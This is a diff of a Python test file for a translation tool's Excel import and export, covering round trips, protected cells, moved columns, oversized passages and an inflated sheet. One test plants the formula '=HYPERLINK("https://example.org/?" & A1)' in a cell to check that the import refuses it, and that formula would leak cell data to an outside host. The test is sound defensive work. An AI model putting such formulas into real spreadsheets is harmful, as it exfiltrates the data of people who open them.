@@ -9,6 +9,7 @@ from io import BytesIO
 from pathlib import Path
 
 import docx
+import openpyxl
 import pytest
 from catalogs import DAY, DE, TREES, look
 from hypothesis import given
@@ -39,7 +40,17 @@ def edit_word(path: Path, texts: Mapping[str, str]) -> None:
     document.save(str(path))
 
 
-EDITS: dict[str, Callable[[Path, Mapping[str, str]], None]] = {"docx": edit_word}
+def edit_excel(path: Path, texts: Mapping[str, str]) -> None:
+    """The same in Excel, where column C is unlocked."""
+    book = openpyxl.load_workbook(path)
+    for row in book.active.iter_rows(min_row=4):
+        if row[1].value in texts:
+            row[2].value = texts[row[1].value]
+            row[2].data_type = "s"
+    book.save(path)
+
+
+EDITS: dict[str, Callable[[Path, Mapping[str, str]], None]] = {"docx": edit_word, "xlsx": edit_excel}
 formats = pytest.mark.parametrize("form", EDITS)
 
 
@@ -141,7 +152,9 @@ def sheet_of(*texts: str, tag: str = "fa", direction: str = "rtl") -> Sheet:
 @given(st.lists(NASTY, min_size=1, max_size=8))
 def test_a_round_trip_loses_nothing(form, texts):
     """Whatever stands in a catalog: it comes back as what went out, and is recognised as untouched."""
-    sheet = sheet_of(*texts, "=1+1", "  two  spaces  ", "#N/A", "\n", "﴾ e\u0301 ﴿\u200f", "_x0041_", "2021-11-25")
+    sheet = sheet_of(
+        *texts, "=1+1", "  two  spaces  ", "#N/A", "\n", "﴾ e\u0301 ﴿\u200f", "_x0041_", "_x005F_x0041_", "2021"
+    )
     sheet = replace(
         sheet, rows=[replace(row, master=row.translation or "-", note=row.translation) for row in sheet.rows]
     )
@@ -380,7 +393,69 @@ def test_tracked_changes_count_as_accepted(translated, polyleaf):
     assert seen(translated, DOORS).text == "Offene Türen"
 
 
+def test_in_a_spreadsheet_what_is_a_formula_or_a_date_is_refused(translated, polyleaf):
+    path = hand_out(polyleaf, translated, "xlsx")
+    book = openpyxl.load_workbook(path)
+    rows = {row[1].value: row[2] for row in book.active.iter_rows(min_row=4)}
+    rows[DOORS].value = '=HYPERLINK("https://example.org/?" & A1)'
+    rows["No reader left outside!"].value = DAY
+    rows["Resolution"].value = 12
+    rows["House of Books"].value = "=1+1"
+    rows["House of Books"].data_type = "s"
+    book.save(path)
+    status, printed = polyleaf("import", path, "--project", translated)
+    assert status == 1
+    assert "is a formula" in printed
+    assert "made a date" in printed
+    assert "2 taken" in printed
+    assert (seen(translated, "House of Books").text, seen(translated, "Resolution").text) == ("=1+1", "12")
+
+
+def test_moved_columns_of_a_spreadsheet_are_noticed(translated, polyleaf):
+    path = hand_out(polyleaf, translated, "xlsx")
+    book = openpyxl.load_workbook(path)
+    book.active.move_range("C4:C100", cols=20)
+    book.active.move_range("B4:B100", cols=1)
+    book.active.move_range("W4:W100", cols=-21)
+    book.save(path)
+    before = po_of(translated).read_bytes()
+    status, printed = polyleaf("import", path, "--project", translated)
+    assert status == 1
+    assert "[columns-moved]" in printed
+    assert "0 taken" in printed
+    assert po_of(translated).read_bytes() == before
+
+
+def test_a_sheet_of_millions_of_rows_is_not_read_to_the_end(translated, polyleaf):
+    path = hand_out(polyleaf, translated, "xlsx")
+    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
+    repacked(path, {"xl/worksheets/sheet1.xml": lambda xml: xml.replace(b"</sheetData>", far)})
+    assert polyleaf("import", path, "--project", translated)[0] == 0
+
+
+def test_a_passage_longer_than_a_cell_is_not_cut_off(translated, polyleaf):
+    path = po_of(translated)
+    path.write_text(path.read_text("utf-8").replace('msgstr "de: Open doors', 'msgstr "' + "lang " * 7000), "utf-8")
+    output = translated / "x.xlsx"
+    status, printed = polyleaf(
+        "export", "de", "--to", "xlsx", "--document", "reading-rooms", "--output", output, "--project", translated
+    )
+    assert status == 1
+    assert "[exchange-length]" in printed
+    assert not output.exists()
+
+
 # ------------------------------------------------------------------ what a translator gets
+
+
+def test_in_excel_only_translations_can_be_edited_and_all_is_text(translated, polyleaf):
+    sheet = openpyxl.load_workbook(hand_out(polyleaf, translated, "xlsx", "fa")).active
+    assert sheet.protection.sheet
+    for row in sheet.iter_rows(min_row=4):
+        assert [cell.protection.locked for cell in row] == [True, True, False, True, True]
+        assert {cell.number_format for cell in row} == {"@"}
+        assert [cell.alignment.readingOrder for cell in row] == [1, 1, 2, 1, 1]
+    assert sheet.column_dimensions["E"].hidden
 
 
 def test_in_word_only_translations_can_be_edited(translated, polyleaf):
